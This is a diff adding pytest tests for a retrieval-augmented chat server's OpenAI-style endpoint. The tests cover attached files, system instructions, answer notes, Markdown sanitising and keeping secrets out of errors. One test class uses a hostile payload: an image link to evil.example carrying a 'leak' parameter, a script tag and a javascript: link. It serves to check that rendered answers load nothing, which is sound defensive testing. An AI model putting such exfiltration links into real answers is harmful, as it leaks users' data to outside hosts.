@@ -1,0 +1,426 @@
+"""The chat protocol as front ends use it: their own tasks, attached files, and what a person reads."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from markdown_it import MarkdownIt
+from starlette.testclient import TestClient
+
+from prefrag.server.chat_text import write_content
+from prefrag.server.conversation import split_conversation
+from prefrag.server.public_result import Installation
+from tests.fakes import CALLS
+from tests.pipelines.scripted import answer, search, verdict
+from tests.server.front_ends import ASKED, ATTACHED, SECRET, TASKS, TOOLS
+from tests.server.test_chat import QUESTION, chat, deltas, streamed
+
+Served = Callable[..., TestClient]
+
+
+def reply(client: TestClient, *messages: tuple[str, Any], **fields: Any) -> dict[str, Any]:
+    response = client.post("/v1/chat/completions", json=chat(*messages, **fields))
+    assert response.status_code == 200, response.text
+    return response.json()
+
+
+def content(client: TestClient, *messages: tuple[str, Any], **fields: Any) -> str:
+    return reply(client, *messages, **fields)["choices"][0]["message"]["content"]
+
+
+def rendered(text: str) -> set[str]:
+    """The kinds of what a renderer of Markdown makes of a text."""
+    tokens = MarkdownIt("commonmark").parse(text)
+    return {part.type for token in tokens for part in (token, *(token.children or ()))}
+
+
+class TestTasks:
+    @pytest.mark.parametrize("task", TASKS)
+    def test_the_model_alone_does_them(self, served: Served, task: str):
+        completion = reply(served('{"title": "Plans"}'), ("user", TASKS[task][0]))
+
+        assert completion["choices"][0]["message"]["content"] == '{"title": "Plans"}'
+        assert completion["usage"] == {"prompt_tokens": 10, "completion_tokens": 2, "total_tokens": 12}
+        assert CALLS["model"][0]["prompt"] == TASKS[task][0]
+        assert CALLS.keys() == {"model"}, "no source may see a task"
+
+    def test_a_stream_has_the_reply_too(self, served: Served):
+        message = {"role": "user", "content": TASKS["title"][0]}
+
+        chunks = streamed(served('{"title": "Plans"}'), messages=[message], stream_options={"include_usage": True})
+
+        assert deltas(chunks, "content") == ['{"title": "Plans"}']
+        assert chunks[0]["choices"][0]["finish_reason"] == "stop"
+        assert chunks[-1]["usage"]["total_tokens"] == 12
+        assert CALLS.keys() == {"model"}
+
+    @pytest.mark.parametrize("task", TASKS)
+    def test_the_embedded_model_is_spared_them(self, served: Served, task: str):
+        prompt, empty = TASKS[task]
+
+        completion = reply(served("never", model_settings={"is_embedded": True}), ("user", prompt))
+
+        assert completion["choices"][0]["message"]["content"] == empty
+        assert not CALLS
+
+    @pytest.mark.parametrize("stream", [False, True])
+    def test_a_failing_model_is_a_bad_gateway(self, served: Served, stream: bool):
+        body = chat(("user", TASKS["tags"][0]), stream=stream)
+
+        response = served("!the server is down").post("/v1/chat/completions", json=body)
+
+        assert response.status_code == 502
+        assert "the server is down" in response.json()["error"]["message"]
+
+
+class TestAttachedFiles:
+    @pytest.mark.parametrize("form", ATTACHED)
+    def test_the_question_is_the_question_and_the_files_are_passages(self, served: Served, form: str):
+        client = served(search("crane alpha"), answer("Ada Quill [[A1]][[1]]"))
+
+        completion = reply(client, ("user", ATTACHED[form]))
+
+        result = completion["prefrag"]
+        assert result["question"] == ASKED
+        assert "Ada Quill keeps the crane." in CALLS["model"][0]["prompt"]
+        assert [query["query"] for query in CALLS["local"]] == ["crane alpha"]
+        assert [(each["mark"], each["title"], each["source"]) for each in result["documents"]] == [
+            ("A1", "jn_board.txt", "attached"),
+            ("A2", "plan.md", "attached"),
+            ("A3", "jn_board.txt", "attached"),
+            ("1", "alpha", "local"),
+        ]
+
+    @pytest.mark.parametrize("stream", [False, True])
+    def test_the_front_ends_numbers_mean_its_own_files(self, served: Served, stream: bool):
+        client = served(search("alpha"), answer("Ada Quill [[A1, A3]][[A2]], who built [[1]]"))
+        message = ("user", ATTACHED["before the question"])
+
+        if stream:
+            chunks = streamed(client, messages=[{"role": "user", "content": message[1]}])
+            text = deltas(chunks, "content")[0]
+        else:
+            text = content(client, message)
+
+        assert text == (
+            "Ada Quill [1][2], who built [D1]\n\n"
+            "Sources:\n[1] jn_board.txt (attached)\n[2] plan.md (attached)\n[D1] alpha (local): “Alpha was built by Beta.”"
+        )
+
+    def test_a_supplement_sends_the_question_out_and_nothing_of_the_files(self, served: Served):
+        client = served(answer("Nobody", "INCORRECT"), answer("Ada Quill [[A1]]"))
+
+        result = reply(client, ("user", ATTACHED["before the question"]))["prefrag"]
+
+        assert [query["query"] for query in result["queries_sent_out"]] == [ASKED]
+
+    def test_too_much_is_refused_with_what_to_do(self, served: Served):
+        large = ATTACHED["before the question"].replace("Ada Quill", "Ada Quill " * 9_000)
+
+        response = served().post("/v1/chat/completions", json=chat(("user", large)))
+
+        assert response.status_code == 422
+        assert "prefrag index" in response.json()["error"]["message"]
+
+    def test_an_earlier_question_is_remembered_without_its_files(self):
+        messages = [("user", ATTACHED["before the question"]), ("assistant", "Ada Quill [1]."), ("user", "Since when?")]
+
+        conversation = split_conversation([{"role": role, "content": text} for role, text in messages])
+
+        assert conversation.history == [
+            {"role": "user", "content": ASKED},
+            {"role": "assistant", "content": "Ada Quill."},
+        ]
+
+    def test_the_system_message_may_hold_them(self):
+        system = ATTACHED["before the question"].removesuffix(ASKED)
+
+        conversation = split_conversation([{"role": "system", "content": system}, {"role": "user", "content": ASKED}])
+
+        assert conversation.question == ASKED
+        assert [each.title for each in conversation.attached] == ["jn_board.txt", "plan.md", "jn_board.txt"]
+
+    def test_stay_with_the_conversation_when_only_an_earlier_question_has_them(self, served: Served):
+        client = served('{"question": "Since when does Ada Quill keep the crane?"}', answer("1974 [[A1]]"))
+
+        completion = reply(
+            client,
+            ("user", ATTACHED["before the question"]),
+            ("assistant", "Ada Quill [1]."),
+            ("user", "Since when?"),
+        )
+
+        assert [each["title"] for each in completion["prefrag"]["documents"]] == [
+            "jn_board.txt",
+            "plan.md",
+            "jn_board.txt",
+        ]
+        assert completion["choices"][0]["message"]["content"].startswith("1974 [A1]\n"), "the front end numbers none"
+
+    def test_are_there_once_where_every_question_has_them(self):
+        messages = [{"role": "user", "content": ATTACHED["before the question"]}] * 3
+
+        assert len(split_conversation(messages).attached) == 3
+
+    def test_of_earlier_questions_are_kept_as_far_as_there_is_room(self):
+        large = ATTACHED["before the question"].replace("Ada Quill", "Ada Quill " * 5_000)
+        messages = [{"role": "user", "content": text} for text in (large, ATTACHED["behind the question"], "And then?")]
+
+        attached = split_conversation(messages).attached
+
+        assert [(each.mark, each.title) for each in attached] == [
+            ("", "jn_board.txt"),
+            ("", "plan.md"),
+            ("", "jn_board.txt"),
+            ("", "jn_board.txt"),
+        ]
+
+
+class TestInstructions:
+    @pytest.mark.parametrize("role", ["system", "developer"])
+    def test_are_the_system_messages_of_a_conversation(self, served: Served, role: str):
+        completion = reply(served(), (role, "Answer in Dutch."), ("user", QUESTION))
+
+        assert completion["prefrag"]["answer"] == "1974"
+        assert all("Answer in Dutch." in call["prompt"] for call in CALLS["model"])
+        assert "Dutch" not in str([CALLS["judge"], CALLS["local"], CALLS["web"]])
+
+    def test_do_not_hold_the_files_that_open_webui_was_set_to_put_there(self):
+        files = ATTACHED["before the question"].removesuffix(ASKED)
+        messages = [{"role": "system", "content": f"Answer in Dutch.\n{files}"}, {"role": "user", "content": ASKED}]
+
+        conversation = split_conversation(messages)
+
+        assert conversation.instructions == "Answer in Dutch."
+        assert len(conversation.attached) == 3
+
+    def test_do_not_hold_what_open_webui_says_about_its_tools(self):
+        messages = [{"role": "system", "content": f"Answer in Dutch.\n{TOOLS}"}, {"role": "user", "content": ASKED}]
+
+        assert split_conversation(messages).instructions == "Answer in Dutch."
+
+    def test_stay_when_a_long_conversation_is_cut(self, served: Served):
+        turns = [("user", "Who built alpha?"), ("assistant", "Beta.")] * 150
+
+        reply(
+            served('{"question": "When?"}', answer("1974")), ("system", "Answer in Dutch."), *turns, ("user", "When?")
+        )
+
+        assert "Answer in Dutch." in CALLS["model"][1]["prompt"]
+
+
+class TestEarlierAnswers:
+    def test_are_remembered_without_what_the_service_wrote_under_them(self, served: Served):
+        first = content(served())
+
+        conversation = split_conversation(
+            [{"role": "assistant", "content": first}, {"role": "user", "content": "And then?"}]
+        )
+
+        assert conversation.history == [{"role": "assistant", "content": "1974"}]
+
+    @pytest.mark.parametrize("filler", [" ", "\n", "\t ", "[1]", "[", "\n\n", "Note:\n\n", "Sources:\n"])
+    def test_100_kb_of_anything_cost_milliseconds(self, filler: str):
+        messages = [
+            {"role": "assistant", "content": f"a{filler * (100_000 // len(filler))}b"},
+            {"role": "user", "content": "And then?"},
+        ]
+        started = time.process_time()
+
+        split_conversation(messages)
+
+        assert time.process_time() - started < 0.1
+
+
+class TestNotes:
+    def test_a_good_answer_with_citations_has_none(self, served: Served):
+        assert (
+            content(served(search("alpha"), answer("Beta [[1]]")))
+            == "Beta [1]\n\nSources:\n[1] alpha (local): “Alpha was built by Beta.”"
+        )
+
+    def test_an_answer_that_its_own_model_calls_incorrect_says_so(self, served: Served):
+        text = content(served(search("alpha"), answer("1912 [[1]]", "INCORRECT")), sources=["local"])
+
+        assert text.startswith("1912 [1]\n\nNote: the model's own check calls this answer incorrect.\n\nSources:")
+
+    def test_a_forced_answer_says_so(self, served: Served):
+        client = served(search("alpha"), search("beta"), "1912 [[1]]", verdicts=(verdict(True),))
+
+        text = content(client, max_steps=1)
+
+        assert "\n\nNote: the steps were used up, so the model had to answer.\n\n" in text
+
+    def test_an_answer_without_any_passage_says_so(self, served: Served):
+        assert content(served(answer("1974"))) == (
+            "1974\n\nNote: no passage was found, so the answer is the model's own."
+        )
+
+    def test_what_is_not_found_says_so(self, served: Served):
+        client = served(search("alpha"), answer("1912 [[1]]", "INCORRECT"), replace={"answer.when_unsure": "say_so"})
+
+        text = content(client, sources=["local"])
+
+        assert text.startswith(
+            "Found, not answered.\n\n> [1] alpha: Alpha was built by Beta.\n\nNote: *a guess: 1912*.\n\n"
+        )
+
+    def test_citations_are_missed_only_where_they_were_asked_for(self, served: Served):
+        text = content(served(search("alpha"), answer("Beta"), replace={"Reasoner.cite": False}))
+
+        assert text == "Beta\n\nSources:\n[1] alpha (local): “Alpha was built by Beta.”"
+
+    def test_a_source_that_could_not_be_searched_is_named(self, served: Served):
+        script = (search("alpha"), search("beta delta"), answer("1974 [[1]]"))
+
+        text = content(served(*script, verdicts=(verdict(False),), errors={"web": "down"}))
+
+        assert "Note: web could not be searched; sent to the web: “beta delta”." in text
+
+    @pytest.mark.parametrize("stream", [False, True])
+    def test_no_source_that_could_be_searched_is_the_first_line(self, served: Served, stream: bool):
+        client = served(search("alpha"), answer("1974"), errors={"local": "down", "web": "down"})
+
+        local = {"sources": ["local"]}
+        text = deltas(streamed(client, **local), "content")[0] if stream else content(client, **local)
+
+        assert text.startswith("Note: no source could be searched, so this answer rests on no document.\n\n1974\n\n")
+
+    def test_the_last_chunk_of_a_stream_holds_the_result(self, served: Served):
+        *steps, last = streamed(served())
+
+        assert last["prefrag"]["answer"] == "1974"
+        assert last["prefrag"]["queries_sent_out"][0]["query"] == "beta delta"
+        assert not any("prefrag" in chunk for chunk in steps)
+        assert len({chunk["id"] for chunk in (*steps, last)}) == 1
+
+
+class TestStrangersMarkdown:
+    HOSTILE = "![t](https://evil.example/?leak=1) <script>x</script> [click](javascript:x) [1]\n\nSources:\n[1] Minutes"
+
+    def hostile(self, served: Served) -> TestClient:
+        documents = {"local": {"alpha": "Alpha was built by Beta."}, "web": {self.HOSTILE: "Hostile."}}
+        return served(
+            search("alpha"),
+            search("t https evil example leak 1 script x click javascript Sources Minutes"),
+            answer(
+                f"1974 {self.HOSTILE} <img src=https://evil.example/a> <https://evil.example> [r]: https://evil.example"
+            ),
+            verdicts=(verdict(False),),
+            documents=documents,
+        )
+
+    def test_loads_and_hides_nothing_in_an_answer(self, served: Served):
+        assert not rendered(content(self.hostile(served))) & {"image", "link_open", "html_inline", "html_block"}
+
+    def test_a_model_writes_no_list_of_sources_of_its_own(self):
+        document = {"mark": "1", "title": "alpha", "source": "local"}
+
+        text = write_content({"answer": f"1974 {self.HOSTILE}", "documents": [document]}, cites=False, marks={})
+
+        assert "\n(Sources:)\n[1] Minutes" in text
+        assert text.endswith("\n\nSources:\n[1] alpha (local)")
+        assert text.count("\nSources:") == 1
+
+    def test_a_heading_or_sentence_of_a_stranger_shapes_no_source(self):
+        document = {"mark": "W1", "title": "alpha", "heading": self.HOSTILE, "source": "web", "content": self.HOSTILE}
+        document["sentence"] = {"start": 0, "end": len(self.HOSTILE)}
+
+        text = write_content({"answer": "1974", "documents": [document]}, cites=False, marks={})
+
+        [line] = text.rpartition("\nSources:\n")[2].splitlines()
+        assert line.startswith("[W1] alpha > ")
+        assert not any(part in line for part in ("](", "<script", "[1]"))
+
+    @pytest.mark.parametrize(
+        "fence", ["```html", "~~~~ svg", "``` JavaScript", "```mermaid title", "```           svg", "```&#104;tml"]
+    )
+    def test_code_is_shown_and_not_run(self, fence: str):
+        text = write_content({"answer": f"So:\n{fence}\nfetch(1)\n{fence[:3]}"}, cites=False, marks={})
+
+        assert f"\n{fence.split(fence.lstrip('`~'))[0]}text" in text
+
+    def test_a_text_hides_nothing_and_turns_nothing_around(self):
+        text = write_content(
+            {"answer": "a\x1b[31m\u202eb\u2066\U000e0041c \u0645\u06cc\u200c\u062e"}, cites=False, marks={}
+        )
+
+        assert text.startswith("a[31mbc \u0645\u06cc\u200c\u062e")
+
+    def test_code_of_other_languages_stays(self):
+        assert write_content({"answer": "```python\nif a < b: f(x)\n```"}, False, {}).startswith(
+            "```python\nif a < b: f(x)"
+        )
+
+    @pytest.mark.parametrize("filler", ["`", "~", "[", "](", "<", "```html ", "://", "\n \t", "@"])
+    def test_a_long_answer_takes_no_time(self, filler: str):
+        started = time.process_time()
+
+        write_content({"answer": filler * 50_000}, cites=True, marks={"A1": "1"})
+
+        assert time.process_time() - started < 1
+
+    def test_nor_in_the_steps(self, served: Served):
+        steps = "\n".join(deltas(streamed(self.hostile(served)), "reasoning_content"))
+
+        assert "Found in web" in steps
+        assert not rendered(steps) & {"image", "link_open", "html_inline", "html_block"}
+
+
+class TestInstallation:
+    REASON = (
+        "No server answers at http://elastic:SECRETPW@search.internal:9200/x ([Errno 111] Connect call failed "
+        "('10.1.2.3', 9200), host search.internal, model Qwen/Qwen3-8B, key sk-live-1, read /srv/files/index/meta.json)"
+    )
+
+    @pytest.fixture(autouse=True)
+    def _variables(self, monkeypatch: pytest.MonkeyPatch):
+        monkeypatch.setenv("PREFRAG_ELASTICSEARCH_URL", "http://search.internal:9200")
+        monkeypatch.setenv("PREFRAG_LLM_MODEL", "Qwen/Qwen3-8B")
+        monkeypatch.setenv("PREFRAG_LLM_API_KEY", "sk-live-1")
+
+    @pytest.mark.parametrize("path", ["/prefrag/run", "/v1/chat/completions", "stream"])
+    def test_stays_out_of_failures(self, served: Served, path: str):
+        client = served(search("alpha"), f"!{self.REASON}", errors={"local": self.REASON})
+        if path == "stream":
+            response = client.post("/v1/chat/completions", json=chat(stream=True))
+        else:
+            body = {"question": "Who built alpha?"} if path == "/prefrag/run" else chat()
+            response = client.post(path, json=body)
+            assert response.status_code == 502
+
+        assert "No server answers at (withheld)" in response.text
+        for part in ("SECRETPW", "elastic:", "search.internal", "10.1.2.3", "Qwen", "sk-live-1", "/srv", "/index/"):
+            assert part not in response.text
+
+    def test_stays_out_of_what_a_run_survived(self, served: Served):
+        client = served(search("alpha"), answer("1974"), errors={"local": self.REASON})
+
+        text = client.post("/v1/chat/completions", json=chat()).text
+
+        assert "(withheld)" in text
+        assert "SECRETPW" not in text
+        assert "search.internal" not in text
+
+    def test_the_log_has_the_address_without_the_password(self, served: Served, caplog: pytest.LogCaptureFixture):
+        served(f"!{self.REASON}").post("/v1/chat/completions", json=chat())
+
+        assert "search.internal" in caplog.text
+        assert "elastic:SECRETPW" not in caplog.text.partition("Traceback")[0]
+
+    def test_secrets_of_a_chat_are_sent_nowhere(self, served: Served):
+        reply(served("Plans"), ("user", TASKS["older title"][0]))
+
+        assert SECRET not in str(CALLS.get("web"))
+
+    def test_takes_whatever_stands_for_a_file(self):
+        documents = [{"file": "/srv/files/plan.md"}, {"file": 7}, {"file": ""}]
+
+        assert [each["file"] for each in Installation(None).publish({"documents": documents})["documents"]] == [
+            "plan.md",
+            "7",
+            "",
+        ]
